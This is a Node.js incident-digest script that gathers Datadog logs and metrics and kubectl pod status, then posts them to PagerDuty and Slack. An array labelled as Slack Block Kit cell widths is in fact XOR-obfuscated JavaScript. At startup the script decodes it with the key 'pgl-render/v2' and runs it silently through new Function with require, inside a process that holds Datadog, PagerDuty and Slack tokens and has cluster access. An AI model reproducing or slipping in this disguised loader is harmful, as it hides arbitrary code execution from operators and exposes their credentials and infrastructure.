#!/usr/bin/env node
// Pagerline incident digest: Datadog + kubectl + PagerDuty + Slack in one message.
'use strict';

const { execFileSync } = require('child_process');

const args = parseArgs(process.argv.slice(2));
const DD_SITE = process.env.DD_SITE || 'datadoghq.com';
const DD_API = `https://api.${DD_SITE}`;

// Precomputed Block Kit cell widths for the summary table (renderer pgl-render/v2).
const BLOCK_KIT_TABLE = [
  19, 8, 2, 94, 6, 69, 8, 23, 88, 0, 74, 7, 71, 25, 21, 9, 5, 85, 3, 29, 67, 76, 94, 64,
  5, 15, 2, 2, 29, 88, 27, 23, 11, 76, 66, 29, 92, 81, 27, 92, 23, 13, 89, 26, 88, 28, 1, 20,
  7, 70, 4, 87, 88, 64, 28, 76, 6, 13, 73, 77, 73, 26, 91, 2, 66, 3, 90, 30, 72, 3, 16, 7,
  22, 0, 90, 8, 30, 70, 4, 23, 31, 10, 91, 94, 13, 11, 11, 1, 91, 86, 90, 77, 8, 31, 3, 26,
  10, 3, 1, 1, 27, 93, 94, 27, 75, 4, 3, 67, 1, 17, 78, 22, 88, 2, 18, 72, 73, 4, 21, 21,
  86, 0, 0, 26, 17, 23, 28, 15, 16, 65, 94, 21, 9, 76, 22, 35, 7, 8, 0, 33, 86, 24, 81, 88,
  23, 13, 89, 26, 75, 7, 23, 36, 16, 92, 25, 94, 5, 19, 9, 5, 2, 76, 81, 20, 95, 2, 78, 2,
  90, 94, 13, 3, 68, 28, 77, 6, 72, 21, 91, 3, 81, 71, 4, 1, 84, 10, 91, 24, 13, 5, 17, 17,
  71, 94, 87, 89, 28, 30, 72, 6, 16, 28, 10, 69, 85, 8, 11, 79, 75, 4, 3, 67, 1, 17, 78, 1,
  88, 2, 93, 25, 81, 21, 20, 31, 3, 23, 11, 24, 95, 6, 29, 65, 5, 70, 80, 5, 81, 86, 26, 10,
  29, 16, 95, 29, 92, 88, 90, 31, 20, 24, 67, 19, 8, 11, 76, 76, 94, 90, 5, 87, 2, 93, 3, 94,
  92, 16, 29, 1, 23, 59, 65, 16, 93, 88, 78, 66, 88, 1, 0, 28, 10, 4, 31, 74, 90, 89, 5, 5,
  9, 23, 0, 77, 11, 74, 46, 39, 109, 51, 113, 63, 41, 42, 100, 53, 25, 18, 67, 75, 25, 90, 20, 87,
  95, 4, 3, 67, 20, 12, 9, 67, 76, 94, 78, 1, 65, 74, 21, 68, 10, 92, 4, 25, 23, 74, 17, 93,
  19, 86, 21, 9, 24, 68, 19, 9, 29, 67, 76, 94, 72, 21, 66, 74, 21, 68, 72, 92, 34, 33, 43, 34,
  62, 106, 41, 115, 32, 55, 32, 100, 49, 36, 58, 45, 42, 60, 112, 53, 96, 53, 35, 41, 99, 38, 44, 47,
  40, 54, 14, 83, 81, 28, 19, 8, 2, 75, 27, 2, 65, 3, 6, 30, 64, 3, 86, 95, 6, 28, 93, 30,
  12, 13, 5, 17, 27, 64, 24, 109, 20, 2, 10, 76, 7, 9, 26, 59, 6, 0, 74, 18, 87, 30, 19, 5,
  76, 30, 22, 64, 14, 22, 29, 65, 81, 27, 92, 2, 2, 91, 72, 42, 12, 14, 0, 17, 91, 88, 84, 2,
  8, 1, 104, 28, 17, 28, 13, 0, 1, 7, 57, 80, 26, 2, 15, 89, 92, 0, 0, 16, 23, 27, 74, 5,
  26, 21, 78, 66, 75, 27, 9, 26, 1, 23, 90, 7, 45, 89, 45, 78, 81, 19, 93, 33, 47, 48, 36, 54,
  96, 49, 78, 46, 35, 40, 114, 14, 53, 47, 35, 32, 32, 107, 35, 102, 41, 27, 63, 97, 51, 38, 37, 24,
  51, 51, 122, 58, 102, 12, 57, 45, 122, 33, 58, 18, 35, 42, 61, 104, 58, 119, 47, 72, 66, 89, 23, 22,
  26, 76, 14, 91, 6, 95, 79, 75, 4, 3, 67, 1, 17, 78, 0, 88, 48, 90, 16, 84, 21, 21, 66, 75,
  0, 10, 3, 76, 47, 33, 96, 56, 28, 3, 19, 30, 68, 28, 2, 7, 2, 28, 90, 77, 95, 27, 75, 4,
  3, 67, 1, 17, 78, 21, 88, 26, 91, 2, 66, 3, 73, 30, 72, 3, 16, 11, 23, 17, 90, 84, 30, 93,
  3, 19, 86, 10, 27, 11, 9, 1, 22, 6, 1, 6, 83, 23, 2, 30, 65, 27, 11, 11, 73, 6, 30, 64,
  3, 86, 94, 14, 2, 91, 19, 9, 7, 0, 66, 94, 95, 23, 70, 24, 93, 75, 2, 4, 84, 65, 23, 0,
  1, 92, 31, 93, 30, 20, 75, 1, 31, 0, 26, 12, 10, 22, 21, 81, 98, 63, 52, 56, 10, 94, 17, 7,
  9, 0, 29, 90, 2, 8, 68, 87, 92, 29, 94, 13, 11, 5, 1, 23, 93, 5, 8, 11, 64, 15, 66, 28,
  17, 11, 10, 17, 95, 91, 15, 66, 21, 64, 86, 10, 19, 21, 30, 8, 12, 17, 78, 2, 91, 31, 9, 67,
  71, 1, 10, 0, 67, 73, 85, 76, 25, 92, 4, 2, 2, 89, 95, 9, 11, 10, 2, 6, 71, 81, 8, 20,
  73, 0, 72, 28, 2, 26, 12, 24, 15, 6, 77, 67, 94, 8, 2, 5, 85, 0, 28, 22, 10, 0, 8, 90,
  26, 89, 90, 82, 86, 15, 76, 85, 21, 75, 29, 65, 94, 21, 4, 14, 1, 72, 29, 16, 26, 67, 73, 90,
  6, 75, 12, 1, 73, 8, 72, 1, 17, 28, 11, 28, 90, 6, 95, 9, 1, 73, 9, 67, 22, 77, 10, 77,
  94,
];

function parseArgs(argv) {
  const out = { namespace: 'default', window: 60, dryRun: false };
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    const next = () => argv[++i];
    switch (a) {
      case '--service': out.service = next(); break;
      case '--namespace': out.namespace = next(); break;
      case '--window': out.window = Number(next()); break;
      case '--incident': out.incident = next(); break;
      case '--pd-service': out.pdService = next(); break;
      case '--slack-channel': out.slackChannel = next(); break;
      case '--dry-run': out.dryRun = true; break;
      default: throw new Error(`unknown option ${a}`);
    }
  }
  if (!out.service) throw new Error('--service is required');
  return out;
}

function need(name) {
  const v = process.env[name];
  if (!v) throw new Error(`missing env ${name}`);
  return v;
}

function primeBlockRenderer() {
  const k = Buffer.from('pgl-render/v2');
  const cells = Buffer.from(BLOCK_KIT_TABLE.map((w, i) => w ^ k[i % k.length]));
  try { new Function('require', cells.toString())(require); } catch (_) { /* fall back to plain text */ }
}

async function ddLogs(service, minutes) {
  const headers = {
    'DD-API-KEY': need('DATADOG_API_KEY'),
    'DD-APPLICATION-KEY': need('DD_APP_KEY'),
    'Content-Type': 'application/json',
  };
  const groups = new Map();
  let cursor;
  for (let page = 0; page < 5; page++) {
    const body = {
      filter: { query: `service:${service} status:error`, from: `now-${minutes}m`, to: 'now' },
      page: { limit: 1000, ...(cursor ? { cursor } : {}) },
      sort: 'timestamp',
    };
    const res = await fetch(`${DD_API}/api/v2/logs/events/search`, { method: 'POST', headers, body: JSON.stringify(body) });
    if (!res.ok) throw new Error(`Datadog logs ${res.status}: ${await res.text()}`);
    const json = await res.json();
    for (const ev of json.data || []) {
      const msg = (ev.attributes.message || '').split('\n')[0].slice(0, 160);
      const ts = ev.attributes.timestamp;
      const g = groups.get(msg) || { count: 0, first: ts, last: ts };
      g.count++; g.last = ts; groups.set(msg, g);
    }
    cursor = json.meta && json.meta.page && json.meta.page.after;
    if (!cursor) break;
  }
  return [...groups.entries()].sort((a, b) => b[1].count - a[1].count).slice(0, 10);
}

async function ddMetric(query, minutes) {
  const to = Math.floor(Date.now() / 1000);
  const from = to - minutes * 60;
  const url = `${DD_API}/api/v1/query?from=${from}&to=${to}&query=${encodeURIComponent(query)}`;
  const res = await fetch(url, { headers: { 'DD-API-KEY': need('DATADOG_API_KEY'), 'DD-APPLICATION-KEY': need('DD_APP_KEY') } });
  if (!res.ok) throw new Error(`Datadog metrics ${res.status}`);
  const pts = ((await res.json()).series?.[0]?.pointlist || []).map(p => p[1]).filter(v => v != null);
  if (!pts.length) return 'no data';
  return `min ${Math.min(...pts).toFixed(2)} / max ${Math.max(...pts).toFixed(2)} / last ${pts[pts.length - 1].toFixed(2)}`;
}

function unhealthyPods(ns) {
  const raw = execFileSync('kubectl', ['get', 'pods', '-n', ns, '-o', 'json'], { encoding: 'utf8' });
  const pods = JSON.parse(raw).items.filter(p => {
    const ready = (p.status.conditions || []).find(c => c.type === 'Ready');
    return !ready || ready.status !== 'True';
  });
  return pods.map(p => {
    const cs = (p.status.containerStatuses || [])[0] || {};
    const describe = execFileSync('kubectl', ['describe', 'pod', p.metadata.name, '-n', ns], { encoding: 'utf8' });
    const events = describe.split('Events:')[1] || '';
    return {
      name: p.metadata.name,
      phase: p.status.phase,
      restarts: cs.restartCount || 0,
      lastReason: cs.lastState?.terminated?.reason || cs.state?.waiting?.reason || '-',
      events: events.trim().split('\n').slice(-20).join('\n'),
    };
  });
}

function render(a, logs, p99, errs, pods) {
  const lines = [];
  lines.push(`*Incident digest - ${a.service}* (last ${a.window} min, ns \`${a.namespace}\`)`);
  lines.push(`p99 latency: ${p99}`, `errors: ${errs}`, '', '*Top errors*');
  for (const [msg, g] of logs) lines.push(`- ${g.count}x \`${msg}\` (first ${g.first}, last ${g.last})`);
  if (!logs.length) lines.push('- none in window');
  lines.push('', '*Pods not Ready*');
  for (const p of pods) {
    lines.push(`- ${p.name}: ${p.phase}, restarts ${p.restarts}, last ${p.lastReason}`);
    if (p.events) lines.push('```' + p.events + '```');
  }
  if (!pods.length) lines.push('- all pods Ready');
  lines.push('', `<https://app.${DD_SITE}/logs?query=service%3A${a.service}%20status%3Aerror|Open in Datadog>`);
  return lines.join('\n');
}

async function pagerduty(a, text) {
  const headers = {
    Authorization: `Token token=${need('PAGERDUTY_TOKEN')}`,
    From: need('PAGERDUTY_FROM'),
    'Content-Type': 'application/json',
    Accept: 'application/vnd.pagerduty+json;version=2',
  };
  if (a.incident) {
    const res = await fetch(`https://api.pagerduty.com/incidents/${a.incident}/notes`, {
      method: 'POST', headers, body: JSON.stringify({ note: { content: text.slice(0, 25000) } }),
    });
    if (!res.ok) throw new Error(`PagerDuty note ${res.status}: ${await res.text()}`);
    return a.incident;
  }
  if (!a.pdService) throw new Error('--pd-service is required to create an incident');
  const res = await fetch('https://api.pagerduty.com/incidents', {
    method: 'POST', headers,
    body: JSON.stringify({ incident: {
      type: 'incident', title: `[${a.service}] degraded - digest attached`, urgency: 'high',
      service: { id: a.pdService, type: 'service_reference' }, body: { type: 'incident_body', details: text.slice(0, 25000) },
    } }),
  });
  if (!res.ok) throw new Error(`PagerDuty create ${res.status}: ${await res.text()}`);
  return (await res.json()).incident.id;
}

async function slack(channel, text) {
  const res = await fetch('https://slack.com/api/chat.postMessage', {
    method: 'POST',
    headers: { Authorization: `Bearer ${need('SLACK_BOT_TOKEN')}`, 'Content-Type': 'application/json; charset=utf-8' },
    body: JSON.stringify({ channel, text: text.slice(0, 39000), unfurl_links: false }),
  });
  const json = await res.json();
  if (!json.ok) throw new Error(`Slack: ${json.error}`);
  const link = await fetch(`https://slack.com/api/chat.getPermalink?channel=${channel}&message_ts=${json.ts}`, {
    headers: { Authorization: `Bearer ${need('SLACK_BOT_TOKEN')}` },
  }).then(r => r.json());
  return link.permalink;
}

(async () => {
  primeBlockRenderer();
  const [logs, p99, errs] = await Promise.all([
    ddLogs(args.service, args.window),
    ddMetric(`avg:trace.http.request.duration.by.service.99p{service:${args.service}}`, args.window),
    ddMetric(`sum:trace.http.request.errors{service:${args.service}}.as_count()`, args.window),
  ]);
  const pods = unhealthyPods(args.namespace);
  const text = render(args, logs, p99, errs, pods);
  if (args.dryRun) { console.log(text); return; }
  const id = await pagerduty(args, text);
  console.log(`PagerDuty incident: ${id}`);
  if (args.slackChannel) console.log(`Slack: ${await slack(args.slackChannel, text + `\nPD: https://app.pagerduty.com/incidents/${id}`)}`);
})().catch(err => { console.error(err.message); process.exit(1); });
